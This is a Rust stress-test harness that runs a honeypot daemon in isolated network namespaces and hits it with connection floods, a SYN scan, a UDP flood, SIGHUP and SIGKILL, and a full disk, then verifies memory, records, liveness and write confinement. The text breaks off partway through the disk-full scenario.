//! `make stress`: the real release binary under fire. Each scenario starts the daemon on the
//! shipped defaults (contrib/honeytrap.conf.dist with its paths moved into a scratch
//! directory and logEvents switched on; no limit raised; `-D -u nobody -g nogroup`, started
//! as root with systemd's default descriptor limit) in a sensor network namespace joined by
//! a veth pair to a client namespace, attacks it, and then asserts:
//!
//! * alive: the daemon still runs, and a fresh connection to a fresh port is served and
//!   saved;
//! * memory: VmRSS, once connections and records are done (bounded wait), is back within
//!   [`RSS_TOLERANCE_KIB`] of the idle figure taken after a warm-up session;
//! * saved == completed: every session the client completed has exactly one attack file
//!   holding the bytes sent (or, where read_limit may cut, a prefix of at most read_limit
//!   bytes), one attacker.log line, one attackers.json record and one input event with that
//!   file's MD5 and length (its session having one connect and one closed event), and no
//!   `.tmp` file is left in the attacks directory;
//! * lines: every line of attacker.log, attackers.json and events.json parses (the JSON with
//!   the checking parser of tests/common/json.rs); after a kill or a full disk a torn line
//!   (one record cut short) is allowed, a glued one (the next record appended to it) never;
//! * confined: nothing written outside the configured directories: the rest of the scratch
//!   tree is unchanged, no descriptor of the daemon is open for writing on a file elsewhere
//!   (sampled every 500 ms), and every thread runs as nobody/nogroup without a capability
//!   that bypasses file permissions, so the kernel lets it write nowhere else;
//!
//! plus what each scenario is about (all served, throttled errors, complete download
//! records). The sizes are in [`Sizes`]; `HT_STRESS=short` (`make stress STRESS=short`)
//! selects the shortened form. `HT_STRESS_ONLY=name,name` runs some scenarios only.
//!
//! Results are printed as a Markdown table and written to target/stress.md; the exit status
//! is 1 when an assertion failed. Needs root (namespaces, iptables, mount); without it the
//! program says why and exits 0, or 1 under HONEYTRAP_REQUIRE_ALL_TESTS=1 (as CI sets it).

#[path = "../common/mod.rs"]
mod common;

mod client;
mod env;
mod hostile;
mod verify;

use client::{marker, payload, Outcome, Plan, RunOpts};
use env::{in_ns, Daemon, Net, Scratch, Watch, CLI};
use std::collections::{BTreeSet, HashMap};
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{mpsc, Arc};
use std::thread;
use std::time::{Duration, Instant};
use verify::{check_records, Expect};

/// How far above the idle VmRSS the daemon may stay once a scenario is over: less than one
/// attack held at the shipped read_limit (20 MiB), more than allocator slack.
const RSS_TOLERANCE_KIB: u64 = 16 * 1024;
/// How long memory may take to come back after the daemon has settled.
const RSS_WAIT: Duration = Duration::from_secs(30);
/// Kills tried until one cuts a record of attackers.json.
const KILL_ATTEMPTS: usize = 30;
/// The daemon's listen timeout (`-l`, not set: its default).
const LISTEN_TIMEOUT: Duration = Duration::from_secs(120);

const P_WARM: u16 = 9000;
const P_ALIVE: u16 = 9999;
const P_MAIN: u16 = 10000;

/// Scenario sizes, full (`make stress`) and short (`make stress STRESS=short`).
#[derive(Clone, Copy, Debug)]
struct Sizes {
    simultaneous: usize,
    drip_senders: usize,
    drip_every: Duration,
    drip_bytes: usize,
    large_at_once: usize,
    large_bytes: usize,
    rapid: usize,
    udp_flows: usize,
    nofile_sessions: usize,
    nofile_concurrency: usize,
    sighup_for: Duration,
    kill_preload: usize,
    kill_after: usize,
    downloads_per_kind: usize,
}

const FULL: Sizes = Sizes {
    simultaneous: 10_000,
    drip_senders: 200,
    drip_every: Duration::from_secs(3),
    drip_bytes: 10,
    large_at_once: 6,
    large_bytes: 30 << 20,
    rapid: 100_000,
    udp_flows: 20_000,
    nofile_sessions: 1_000,
    nofile_concurrency: 400,
    sighup_for: Duration::from_secs(60),
    kill_preload: 20_000,
    kill_after: 500,
    downloads_per_kind: 2,
};

const SHORT: Sizes = Sizes {
    simultaneous: 10_000,
    drip_senders: 200,
    drip_every: Duration::from_secs(2),
    drip_bytes: 4,
    large_at_once: 3,
    large_bytes: 30 << 20,
    rapid: 20_000,
    udp_flows: 5_000,
    nofile_sessions: 400,
    nofile_concurrency: 300,
    sighup_for: Duration::from_secs(10),
    kill_preload: 20_000,
    kill_after: 200,
    downloads_per_kind: 1,
};

// ---------------------------------------------------------------------------------------------
// Results

struct Check {
    name: &'static str,
    ok: bool,
    evidence: String,
}

struct Report {
    name: &'static str,
    size: String,
    result: String,
    /// VmRSS idle, VmHWM (peak), VmRSS after, in KiB.
    rss: [u64; 3],
    took: Duration,
    checks: Vec<Check>,
    notes: Vec<String>,
}

impl Report {
    fn new(name: &'static str, size: String) -> Report {
        Report {
            name,
            size,
            result: String::new(),
            rss: [0; 3],
            took: Duration::ZERO,
            checks: Vec::new(),
            notes: Vec::new(),
        }
    }
    fn check(&mut self, name: &'static str, ok: bool, evidence: impl Into<String>) {
        self.checks.push(Check { name, ok, evidence: evidence.into() });
    }
    fn passed(&self) -> bool {
        !self.checks.is_empty() && self.checks.iter().all(|c| c.ok)
    }
}

// ---------------------------------------------------------------------------------------------
// A scenario's daemon and the checks every scenario makes

struct Stage {
    net: Net,
    scratch: Scratch,
    daemon: Daemon,
    watch: Watch,
    snap: BTreeSet<(PathBuf, u64, i64, i64)>,
    violations: BTreeSet<String>,
    /// Where this scenario's traffic starts in the daemon's stdout.
    log_from: usize,
    idle_kib: u64,
    /// Torn lines allowed per output file (one per kill or full disk the scenario caused).
    tears_allowed: usize,
    /// read_limit of the configuration (as the daemon reads it; 0, unlimited, as MAX).
    read_limit: usize,
}

impl Stage {
    /// Namespaces, scratch directory (with a tmpfs of `tmpfs` bytes for its data and log
    /// directories), the daemon, a warm-up session, the idle VmRSS.
    fn new(tag: &str, nofile: (u64, u64), tmpfs: Option<u64>) -> Stage {
        let net = env::net(tag);
        let scratch = Scratch::new(tag);
        if let Some(size) = tmpfs {
            scratch.mount_tmpfs(size);
        }
        let snap = env::snapshot(&scratch.root, &scratch.unwatched());
        let cfg = honeytrap::config::load(&scratch.conf, &scratch.root).expect("the dist configuration loads");
        let read_limit = match cfg.read_limit {
            0 => usize::MAX,
            n => n as usize,
        };
        let daemon = Daemon::start(&net, &scratch, nofile);
        let mut violations: BTreeSet<String> = env::credential_problems(daemon.pid()).into_iter().collect();
        let watch = Watch::new(daemon.pid(), scratch.writable_dirs());
        let warm = in_ns(&net.cli, || client::served(P_WARM, marker("warm", 0), payload(&marker("warm", 0), 32, 0)));
        assert!(warm.completed, "the warm-up session failed: {:?}", warm.error);
        daemon.settle(&scratch, Duration::from_secs(1), Duration::from_secs(20));
        violations.extend(watch.violations.lock().unwrap().iter().cloned());
        let idle_kib = daemon.status("VmRSS");
        let log_from = daemon.stdout_len();
        Stage { net, scratch, daemon, watch, snap, violations, log_from, idle_kib, tears_allowed: 0, read_limit }
    }

    fn pid(&self) -> i32 {
        self.daemon.pid()
    }

    /// Starts the daemon again on the same configuration (after it was killed).
    fn restart(&mut self, nofile: (u64, u64)) {
        self.violations.extend(self.watch.violations.lock().unwrap().iter().cloned());
        let d = Daemon::start(&self.net, &self.scratch, nofile);
        self.violations.extend(env::credential_problems(d.pid()));
        self.watch = Watch::new(d.pid(), self.scratch.writable_dirs());
        let old = std::mem::replace(&mut self.daemon, d);
        drop(old);
    }

    /// Warning and error lines the daemon logged since the scenario began, grouped (ports
    /// and counts masked), most frequent first.
    fn log_evidence(&self) -> Vec<String> {
        let text = self.daemon.stdout_since(self.log_from);
        let mut groups: HashMap<String, usize> = HashMap::new();
        for l in text.lines().filter(|l| {
            let low = l.to_ascii_lowercase();
            low.contains("warning") || low.contains("error") || low.contains("panic")
        }) {
            let msg = l.split_once("] ").map_or(l, |(_, m)| m).trim();
            *groups.entry(mask_numbers(msg)).or_default() += 1;
        }
        let mut v: Vec<(String, usize)> = groups.into_iter().collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        v.into_iter().take(4).map(|(m, n)| format!("{n}× `{m}`")).collect()
    }

    /// Waits for the records to be written (`quiet`: nothing new for this long, at most
    /// `max`), then checks memory, this scenario's records (`expect`), the daemon alive and
    /// serving, every line, and confinement. Fills `r`.
    fn finish(
        mut self,
        r: &mut Report,
        expect: &[Expect],
        quiet: Duration,
        max: Duration,
        extra_wait: Option<Duration>,
    ) {
        let settled = self.daemon.settle(&self.scratch, quiet, max);
        if !settled {
            r.notes.push(format!("connections or records still busy after {} s", max.as_secs()));
        }
        // Memory: back near idle within RSS_WAIT (after the listeners have timed out when the
        // scenario opened many, `extra_wait`).
        if let Some(w) = extra_wait {
            common::wait_until(w, || self.daemon.threads("listen ") == 0);
        }
        let limit = self.idle_kib + RSS_TOLERANCE_KIB;
        common::wait_until(RSS_WAIT, || self.daemon.status("VmRSS") <= limit);
        let after = self.daemon.status("VmRSS");
        r.rss = [self.idle_kib, self.daemon.status("VmHWM"), after];
        r.check(
            "memory",
            after > 0 && after <= limit,
            format!(
                "VmRSS {} after, idle {} + tolerance {} (listeners {}, threads {})",
                mib(after),
                mib(self.idle_kib),
                mib(RSS_TOLERANCE_KIB),
                self.daemon.threads("listen "),
                self.daemon.status("Threads")
            ),
        );
        // Saved == completed.
        let out = verify::read_outputs(&self.scratch);
        let files = verify::attack_files(&self.scratch.attacks);
        let rec = check_records(expect, &files, &out, self.read_limit);
        let mut ev = rec.summary();
        if !rec.examples.is_empty() {
            ev.push_str(&format!("; e.g. {}", rec.examples.join("; ")));
        }
        if !files.tmp.is_empty() {
            ev.push_str(&format!("; {} stale temporary files, e.g. {}", files.tmp.len(), files.tmp[0]));
        }
        r.check("saved", rec.all_ok() && files.tmp.is_empty(), ev);
        // Alive and serving.
        let alive_before = self.daemon.alive();
        let m = marker("alive", 0);
        let probe = in_ns(&self.net.cli, || client::served(P_ALIVE, m.clone(), payload(&m, 40, 7)));
        let mut alive_ok = alive_before && probe.completed;
        let mut alive_ev = if !alive_before {
            format!("the daemon is gone: {:?}", self.daemon.child.try_wait())
        } else if !probe.completed {
            format!("a fresh session failed: {}", probe.error.as_deref().unwrap_or("?"))
        } else {
            "a fresh session was served".to_string()
        };
        if alive_ok {
            let saved = common::wait_until(Duration::from_secs(15), || {
                let out = verify::read_outputs(&self.scratch);
                let files = verify::attack_files(&self.scratch.attacks);
                check_records(&[Expect { out: &probe, proto: "tcp", may_cut: false }], &files, &out, self.read_limit)
                    .all_ok()
            });
            alive_ok = saved;
            alive_ev.push_str(if saved { " and saved" } else { " but not saved within 15 s" });
        }
        r.check("alive", alive_ok, alive_ev);
        // Every line.
        let out = verify::read_outputs(&self.scratch);
        let (ok, ev) = verify::lines_verdict(&out, self.tears_allowed);
        r.check("lines", ok, ev);
        r.notes.extend(self.log_evidence().into_iter().map(|l| format!("daemon log: {l}")));
        r.notes.push(format!(
            "most connection threads at once (sampled every 500 ms): {}",
            self.watch.max_conns.load(Ordering::Relaxed)
        ));
        // Confinement.
        self.violations.extend(self.watch.violations.lock().unwrap().iter().cloned());
        self.violations.extend(env::open_for_writing(self.pid(), &self.scratch.writable_dirs()));
        let pid = self.pid();
        let Stage { daemon, scratch, snap, mut violations, watch, .. } = self;
        drop(watch);
        daemon.stop();
        let now = env::snapshot(&scratch.root, &scratch.unwatched());
        for added in now.difference(&snap) {
            violations.insert(format!("{} created or changed", added.0.display()));
        }
        for gone in snap.difference(&now) {
            if !now.iter().any(|n| n.0 == gone.0) {
                violations.insert(format!("{} removed", gone.0.display()));
            }
        }
        let n = violations.len();
        let first: Vec<String> = violations.into_iter().take(3).collect();
        r.check(
            "confined",
            n == 0,
            if n == 0 {
                format!("daemon pid {pid} ran as nobody/nogroup and wrote only its directories")
            } else {
                format!("{n} problems: {}", first.join("; "))
            },
        );
    }
}

fn mask_numbers(s: &str) -> String {
    // Ports after a colon and counts in parentheses vary from line to line.
    let mut out = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        out.push(c);
        if c == ':' && chars.peek().is_some_and(|d| d.is_ascii_digit()) {
            while chars.peek().is_some_and(|d| d.is_ascii_digit()) {
                chars.next();
            }
            out.push('N');
        }
    }
    out
}

fn mib(kib: u64) -> String {
    format!("{:.1} MiB", kib as f64 / 1024.0)
}

/// The most frequent client-side errors.
fn errors(outs: &[Outcome]) -> String {
    let mut m: HashMap<&str, usize> = HashMap::new();
    for o in outs {
        if let Some(e) = &o.error {
            *m.entry(e.as_str()).or_default() += 1;
        }
    }
    let mut v: Vec<(&str, usize)> = m.into_iter().collect();
    v.sort_by_key(|e| std::cmp::Reverse(e.1));
    v.iter().take(3).map(|(e, n)| format!("{n}× {e}")).collect::<Vec<_>>().join(", ")
}

fn expect_tcp(outs: &[Outcome]) -> Vec<Expect<'_>> {
    outs.iter().filter(|o| o.completed).map(|out| Expect { out, proto: "tcp", may_cut: false }).collect()
}

fn plans(tag: &str, n: usize, ports: &[u16], len: usize) -> Vec<Plan> {
    (0..n)
        .map(|i| {
            let m = marker(tag, i);
            Plan { port: ports[i % ports.len()], payload: payload(&m, len, i as u64), marker: m, drip: None, head: 0 }
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Scenarios

/// 10,000 simultaneous connections from one client address to one port: each sends its
/// payload, waits for the daemon's response, and stays open until every one has its
/// response; then all close.
fn simultaneous(z: &Sizes) -> Report {
    let n = z.simultaneous;
    let mut r = Report::new("simultaneous", format!("{n} connections, one source, one port"));
    let own = env::own_nofile().0;
    assert!(own as usize > n + 500, "the client needs {} descriptors, its limit is {own}", n + 500);
    let st = Stage::new("sim", env::nofile_default(), None);
    let pid = st.pid();
    let ps = plans("sim", n, &[P_MAIN], 16);
    let mut held = (0usize, 0u64);
    let outs = in_ns(&st.net.cli, || {
        let o = RunOpts {
            concurrency: n,
            connect_inflight: 256,
            wait_response: true,
            hold_all: true,
            deadline: Instant::now() + Duration::from_secs(240),
        };
        client::run_sessions(&ps, &o, &mut || {
            held = (
                env::thread_names(pid).iter().filter(|t| t.starts_with("conn ")).count(),
                env::proc_field(pid, "VmRSS"),
            )
        })
    });
    let served = outs.iter().filter(|o| o.completed).count();
    r.result = format!(
        "served {served}/{n}; {} held at once by the daemon ({} RSS); client errors: {}",
        held.0,
        mib(held.1),
        or_none(errors(&outs))
    );
    r.check("served", served == n, format!("{served} of {n} served; {}", or_none(errors(&outs))));
    let exp = expect_tcp(&outs);
    st.finish(&mut r, &exp, Duration::from_secs(2), Duration::from_secs(120), None);
    r
}

fn or_none(s: String) -> String {
    if s.is_empty() {
        "none".into()
    } else {
        s
    }
}

/// 200 senders that send their marker, then one byte every few seconds (more than the
/// read timeout of 1 s), then close.
fn slow_drip(z: &Sizes) -> Report {
    let n = z.drip_senders;
    let mut r = Report::new(
        "slow drip",
        format!("{n} senders, 1 byte every {} s, {} bytes each", z.drip_every.as_secs(), z.drip_bytes),
    );
    let st = Stage::new("drip", env::nofile_default(), None);
    let ps: Vec<Plan> = (0..n)
        .map(|i| {
            let m = marker("drip", i);
            Plan {
                port: P_MAIN,
                payload: payload(&m, z.drip_bytes - 1, i as u64),
                head: m.len(),
                marker: m,
                drip: Some(z.drip_every),
            }
        })
        .collect();
    let outs = in_ns(&st.net.cli, || {
        let o = RunOpts {
            concurrency: n,
            connect_inflight: 64,
            wait_response: true,
            hold_all: false,
            deadline: Instant::now() + z.drip_every * (z.drip_bytes as u32 + 2) + Duration::from_secs(90),
        };
        client::run_sessions(&ps, &o, &mut || {})
    });
    let served = outs.iter().filter(|o| o.completed).count();
    r.result = format!("served {served}/{n}; client errors: {}", or_none(errors(&outs)));
    r.check("served", served == n, format!("{served} of {n} served"));
    let exp = expect_tcp(&outs);
    st.finish(&mut r, &exp, Duration::from_secs(2), Duration::from_secs(60), None);
    r
}

/// Several 30 MiB uploads at once: read_limit (20 MiB in the dist configuration) and the
/// data budget cut them; each record must hold what was kept (a prefix of at most
/// read_limit bytes).
fn large(z: &Sizes) -> Report {
    let n = z.large_at_once;
    let mut r = Report::new("30 MiB payloads", format!("{n} × {} MiB at once", z.large_bytes >> 20));
    let st = Stage::new("large", env::nofile_default(), None);
    let payloads: Vec<(String, Vec<u8>)> = (0..n)
        .map(|i| {
            let m = marker("large", i);
            let p = payload(&m, z.large_bytes - m.len() - 1, i as u64);
            (m, p)
        })
        .collect();
    let outs: Vec<Outcome> = in_ns(&st.net.cli, || {
        thread::scope(|sc| {
            let hs: Vec<_> =
                payloads.iter().map(|(m, p)| sc.spawn(move || client::upload(P_MAIN, m.clone(), p))).collect();
            hs.into_iter().map(|h| h.join().unwrap_or_default()).collect()
        })
    });
    let connected = outs.iter().filter(|o| o.connected).count();
    let exp: Vec<Expect> =
        outs.iter().filter(|o| o.connected).map(|out| Expect { out, proto: "tcp", may_cut: true }).collect();
    st.daemon.settle(&st.scratch, Duration::from_secs(2), Duration::from_secs(120));
    let files = verify::attack_files(&st.scratch.attacks);
    let kept: Vec<u64> = outs
        .iter()
        .filter_map(|o| {
            files.by_marker.get(&o.marker)?.first().and_then(|p| std::fs::metadata(p).ok()).map(|m| m.len())
        })
        .collect();
    r.result = format!(
        "{connected}/{n} connected; kept per record (read_limit {:.1} MiB): {}",
        st.read_limit as f64 / 1048576.0,
        if kept.is_empty() {
            "none".into()
        } else {
            kept.iter().map(|k| format!("{:.1} MiB", *k as f64 / 1048576.0)).collect::<Vec<_>>().join(", ")
        }
    );
    r.check("served", connected == n, format!("{connected} of {n} connected"));
    st.finish(&mut r, &exp, Duration::from_secs(2), Duration::from_secs(60), None);
    r
}

/// 100,000 connections opened and closed at once (no data), 8 at a time.
fn rapid(z: &Sizes) -> Report {
    let n = z.rapid;
    let mut r = Report::new("rapid connect/close", format!("{n} connections, 8 clients, one port"));
    let st = Stage::new("rapid", env::nofile_default(), None);
    let drops0 = st.daemon.net_counter("netstat", "TcpExt", "ListenDrops");
    let t0 = Instant::now();
    let outs = in_ns(&st.net.cli, || {
        client::quick_sessions(8, n, P_MAIN, Instant::now() + Duration::from_secs(600), Duration::ZERO, |i| {
            (marker("rapid", i), Vec::new())
        })
    });
    let took = t0.elapsed();
    let drops = st.daemon.net_counter("netstat", "TcpExt", "ListenDrops") - drops0;
    let completed = outs.iter().filter(|o| o.completed).count();
    let connected = outs.iter().filter(|o| o.connected).count();
    st.daemon.settle(&st.scratch, Duration::from_secs(3), Duration::from_secs(180));
    let out = verify::read_outputs(&st.scratch);
    let (a, j, c, d) = verify::empty_records(&out, P_MAIN);
    let counts_ok = [a, j, c, d].iter().all(|x| *x >= completed && *x <= connected);
    r.result = format!(
        "{completed}/{n} completed in {:.1} s ({:.0}/s), listen drops {drops}; records: attacker.log {a}, attackers.json {j}, connect {c}, closed {d}",
        took.as_secs_f64(),
        completed as f64 / took.as_secs_f64().max(0.001)
    );
    r.check(
        "served",
        completed == n,
        format!("{completed} of {n} completed; client errors: {}", or_none(errors(&outs))),
    );
    r.check(
        "records",
        counts_ok,
        format!("{completed} completed ({connected} connected): {a} attacker.log lines, {j} attackers.json records, {c} connect and {d} closed events"),
    );
    st.finish(&mut r, &[], Duration::from_secs(2), Duration::from_secs(60), None);
    r
}

/// Raw SYNs to all 65,535 ports (half-open: the client's kernel resets every SYN-ACK).
/// Runs in the background: signals `ready` after the scan, then waits for the listeners
/// to time out before the memory check.
fn syn_scan(ready: &mpsc::Sender<()>) -> Report {
    let mut r = Report::new("SYN scan", "65,535 ports, 20,000 SYNs/s, nfq".into());
    let st = Stage::new("scan", env::nofile_default(), None);
    let drops0 = st.daemon.nfq_dropped();
    let (sent, failed) =
        in_ns(&st.net.cli, || client::syn_scan(CLI, 40000, 20_000, Instant::now() + Duration::from_secs(60)));
    thread::sleep(Duration::from_secs(3));
    let _ = ready.send(());
    let drops = st.daemon.nfq_dropped().saturating_sub(drops0);
    let peak = st.watch.max_listeners.load(Ordering::Relaxed);
    let out = verify::read_outputs(&st.scratch);
    let stray = verify::records_outside(&out, &[P_WARM, P_ALIVE]);
    r.result = format!(
        "{sent} SYNs sent ({failed} not sent); {drops} dropped at the queue; {peak} listeners at most; {stray} records"
    );
    r.check("no records", stray == 0, format!("{stray} records of connections that never completed"));
    st.finish(
        &mut r,
        &[],
        Duration::from_secs(2),
        Duration::from_secs(30),
        Some(LISTEN_TIMEOUT + Duration::from_secs(30)),
    );
    r
}

/// One datagram from each of many source ports (each a flow) to one UDP port, as fast as the
/// client sends. A flow whose datagram the kernel dropped (queue or socket buffer full)
/// cannot be recorded; every other must be.
fn udp_flood(z: &Sizes) -> Report {
    let n = z.udp_flows;
    let mut r = Report::new("UDP flood", format!("{n} flows (1 datagram each), 20,000/s, one port"));
    let st = Stage::new("udp", env::nofile_default(), None);
    let k0 = kernel_udp_drops(&st.daemon);
    let sent =
        in_ns(&st.net.cli, || client::udp_flood(n, 20000, P_MAIN, 20_000, Instant::now() + Duration::from_secs(120)));
    // Flows end after 11 idle read timeouts.
    thread::sleep(Duration::from_secs(12));
    st.daemon.settle(&st.scratch, Duration::from_secs(5), Duration::from_secs(120));
    let k1 = kernel_udp_drops(&st.daemon);
    let kd: Vec<u64> = k1.iter().zip(k0.iter()).map(|(a, b)| a.saturating_sub(*b)).collect();
    let kdrops: u64 = kd.iter().sum();
    let outs: Vec<Outcome> = sent
        .iter()
        .map(|(m, p)| Outcome {
            marker: m.clone(),
            port: P_MAIN,
            sent: p.clone(),
            connected: true,
            completed: true,
            ..Outcome::default()
        })
        .collect();
    let exp: Vec<Expect> = outs.iter().map(|out| Expect { out, proto: "udp", may_cut: false }).collect();
    let files = verify::attack_files(&st.scratch.attacks);
    let out = verify::read_outputs(&st.scratch);
    let rec = check_records(&exp, &files, &out, st.read_limit);
    r.result = format!(
        "{} sent; {} recorded; {kdrops} dropped by the kernel ({} at the queue, {} socket errors, {} to no port)",
        sent.len(),
        rec.ok,
        kd[0],
        kd[1],
        kd[2]
    );
    if kdrops == 0 {
        // Every datagram reached the daemon: saved == sent, checked with the rest.
        st.finish(&mut r, &exp, Duration::from_secs(2), Duration::from_secs(30), None);
    } else {
        // Which flows the kernel dropped is not known, only how many.
        let partial = rec.expected - rec.ok - rec.no_file;
        r.check(
            "recorded",
            rec.no_file as u64 <= kdrops && partial == 0,
            format!(
                "{} flows without a record, {kdrops} dropped by the kernel; {partial} incomplete records",
                rec.no_file
            ),
        );
        st.finish(&mut r, &[], Duration::from_secs(2), Duration::from_secs(30), None);
    }
    r
}

/// Datagrams the sensor's kernel dropped: at the queue, on the socket (buffer full), for a
/// port without socket.
fn kernel_udp_drops(d: &Daemon) -> [u64; 3] {
    [d.nfq_dropped(), d.net_counter("snmp", "Udp", "InErrors"), d.net_counter("snmp", "Udp", "NoPorts")]
}

/// The daemon with `ulimit -n 256` (soft and hard), more sessions at once than descriptors:
/// it may refuse some, but must stay up and record every session it served.
fn nofile(z: &Sizes) -> Report {
    let (n, c) = (z.nofile_sessions, z.nofile_concurrency);
    let mut r = Report::new("ulimit -n 256", format!("{n} sessions, {c} at once, 4 ports"));
    let st = Stage::new("nofile", (256, 256), None);
    let ps = plans("nofile", n, &[P_MAIN, P_MAIN + 1, P_MAIN + 2, P_MAIN + 3], 64);
    let outs = in_ns(&st.net.cli, || {
        let o = RunOpts {
            concurrency: c,
            connect_inflight: 128,
            wait_response: true,
            hold_all: false,
            deadline: Instant::now() + Duration::from_secs(300),
        };
        client::run_sessions(&ps, &o, &mut || {})
    });
    let served = outs.iter().filter(|o| o.completed).count();
    r.result = format!("served {served}/{n}; client errors: {}", or_none(errors(&outs)));
    r.check("served some", served > 0, format!("{served} of {n} served"));
    let exp = expect_tcp(&outs);
    st.finish(&mut r, &exp, Duration::from_secs(2), Duration::from_secs(60), None);
    r
}

/// SIGHUP every 100 ms while 8 clients run short sessions.
fn sighup(z: &Sizes) -> Report {
    let mut r = Report::new(
        "SIGHUP every 100 ms",
        format!("{} s of sessions from 8 clients (up to 1,000/s)", z.sighup_for.as_secs()),
    );
    let st = Stage::new("hup", env::nofile_default(), None);
    let stop = Arc::new(AtomicBool::new(false));
    let pid = st.pid();
    let hups = {
        let stop = Arc::clone(&stop);
        thread::spawn(move || {
            let mut n = 0u32;
            let end = Instant::now() + Duration::from_secs(600);
            while !stop.load(Ordering::Relaxed) && Instant::now() < end && env::pid_alive(pid) {
                // SAFETY: kill(2) with the PID of the daemon this scenario started and still
                // holds (not reaped while this thread runs).
                unsafe { libc::kill(pid, libc::SIGHUP) };
                n += 1;
                thread::sleep(Duration::from_millis(100));
            }
            n
        })
    };
    let deadline = Instant::now() + z.sighup_for;
    let outs = in_ns(&st.net.cli, || {
        // 8 clients, each starting a session at most every 8 ms: up to 1,000 a second.
        client::quick_sessions(8, 1_000_000, P_MAIN, deadline, Duration::from_millis(8), client::tagged("hup", 32))
    });
    stop.store(true, Ordering::Relaxed);
    let n_hup = hups.join().unwrap_or(0);
    let completed = outs.iter().filter(|o| o.completed).count();
    r.result = format!(
        "{n_hup} SIGHUPs; {completed}/{} sessions completed; client errors: {}",
        outs.len(),
        or_none(errors(&outs))
    );
    r.check("served", completed == outs.len(), format!("{completed} of {} completed", outs.len()));
    let exp = expect_tcp(&outs);
    st.finish(&mut r, &exp, Duration::from_secs(2), Duration::from_secs(120), None);
    r
}

/// Many sessions, then SIGKILL while attackers.json takes a large record, then an immediate
/// restart and more sessions: every session outside the killed one saved, a torn line
/// allowed, no glued line.
fn sigkill(z: &Sizes) -> Report {
    let mut r = Report::new(
        "SIGKILL mid-write, restart",
        format!(
            "{} sessions, kill during a 2 MiB record's write (logs on tmpfs), restart, {} sessions",
            z.kill_preload, z.kill_after
        ),
    );
    // On a tmpfs, which writes page by page (updating the size as it goes and checking for a
    // fatal signal between pages), a kill lands inside the write; a file system that copies
    // a whole record in one large folio would let most kills miss it.
    let mut st = Stage::new("kill", env::nofile_default(), Some(1 << 30));
    let t0 = Instant::now();
    let pre = in_ns(&st.net.cli, || {
        client::quick_sessions(
            8,
            z.kill_preload,
            P_MAIN,
            Instant::now() + Duration::from_secs(300),
            Duration::ZERO,
            client::tagged("pre", 16),
        )
    });
    let pre_rate = pre.len() as f64 / t0.elapsed().as_secs_f64().max(0.001);
    st.daemon.settle(&st.scratch, Duration::from_secs(2), Duration::from_secs(120));
    // Kill attempts: a 2 MiB session (its attackers.json record is about 1 MiB); SIGKILL as
    // soon as attackers.json starts growing.
    let json = st.scratch.attackers_json();
    let mut kills = 0;
    let mut torn = false;
    for attempt in 0..KILL_ATTEMPTS {
        let base = std::fs::metadata(&json).map_or(0, |m| m.len());
        let m = marker("big", attempt);
        let p = payload(&m, 2 << 20, attempt as u64);
        // The watcher spins from before the sessions start, so it sees the first growth.
        let pid = st.pid();
        let path = json.clone();
        let watcher = thread::spawn(move || {
            // A real-time spinner sees the growth within microseconds even on a loaded
            // machine; it gives the policy back after 2 s without growth.
            let t0 = Instant::now();
            let rt = set_fifo(true);
            let end = t0 + Duration::from_secs(20);
            while Instant::now() < end {
                if rt && t0.elapsed() > Duration::from_secs(2) {
                    set_fifo(false);
                }
                if std::fs::metadata(&path).map_or(0, |m| m.len()) > base {
                    // SAFETY: kill(2) on the daemon this scenario started; it is reaped only
                    // after this thread has been joined.
                    unsafe { libc::kill(pid, libc::SIGKILL) };
                    return true;
                }
                std::hint::spin_loop();
            }
            false
        });
        let big = in_ns(&st.net.cli, || client::quick(P_MAIN, m.clone(), p.clone()));
        if !watcher.join().unwrap_or(false) {
            r.notes.push(format!("kill attempt {attempt}: attackers.json did not grow within 20 s ({:?})", big.error));
            st.daemon.signal(libc::SIGKILL);
        }
        st.daemon.wait_exit(Duration::from_secs(10));
        kills += 1;
        torn = std::fs::read(&json).is_ok_and(|d| !d.is_empty() && !d.ends_with(b"\n"));
        st.restart(env::nofile_default());
        if torn {
            break;
        }
    }
    st.tears_allowed = kills;
    let after = in_ns(&st.net.cli, || {
        client::quick_sessions(
            4,
            z.kill_after,
            P_MAIN,
            Instant::now() + Duration::from_secs(120),
            Duration::ZERO,
            client::tagged("post", 16),
        )
    });
    st.daemon.settle(&st.scratch, Duration::from_secs(2), Duration::from_secs(60));
    let files = verify::attack_files(&st.scratch.attacks);
    let out = verify::read_outputs(&st.scratch);
    let pre_rec = check_records(&expect_tcp(&pre), &files, &out, st.read_limit);
    let post_rec = check_records(&expect_tcp(&after), &files, &out, st.read_limit);
    r.result = format!(
        "before: {} ({:.0}/s); {kills} kill(s), line torn: {}; after the restart: {}",
        pre_rec.summary(),
        pre_rate,
        if torn { "yes" } else { "no" },
        post_rec.summary()
    );
    r.check(
        "torn line made",
        torn,
        if torn { format!("attackers.json cut by kill {kills}") } else { format!("no kill of {kills} hit the write") },
    );
    let mut all: Vec<Outcome> = pre.into_iter().filter(|o| o.completed).collect();
    all.extend(after.into_iter().filter(|o| o.completed));
    let exp = expect_tcp(&all);
    st.finish(&mut r, &exp, Duration::from_secs(2), Duration::from_secs(60), None);
    r
}

/// Switches the calling thread to SCHED_FIFO (priority 10) or back to SCHED_OTHER; true
/// when it took effect.
fn set_fifo(on: bool) -> bool {
    let (policy, prio) = if on { (libc::SCHED_FIFO, 10) } else { (libc::SCHED_OTHER, 0) };
    let p = libc::sched_param { sched_priority: prio };
    // SAFETY: `p` is a valid in-pointer; pid 0 is the calling thread.
    unsafe { libc::sched_setscheduler(0, policy, &p) == 0 }
}

/// The data and log directories on a small tmpfs: sessions, the disk filled (up to a
/// little less than a record), sessions, space again, sessions. Records of the sessions
/// with space saved, a torn line allowed but never glued, output errors throttled.
fn disk_full() -> Report {
    const TMPFS: u64 = 8 << 20;
    let mut r =
        Report::new("full disk, then space", "8 MiB tmpfs; 20 sessions, full, 30 × 200 KiB, freed, 20 sessions".into());
    let mut st = Stage::new("disk", env::nofile_default(), Some(TMPFS));
    st.tears_allowed = 1;
    let deadline = || Instant::now() + Duration::from_secs(120);
    let before = in_ns(&st.net.cli, || {
        client::quick_sessions(1, 20, P_MAIN, deadline(), Duration::ZERO, client::tagged("d1", 8192))
    });
    st.daemon.settle(&st.scratch, Duration::from_secs(1), Duration::from_secs(30));
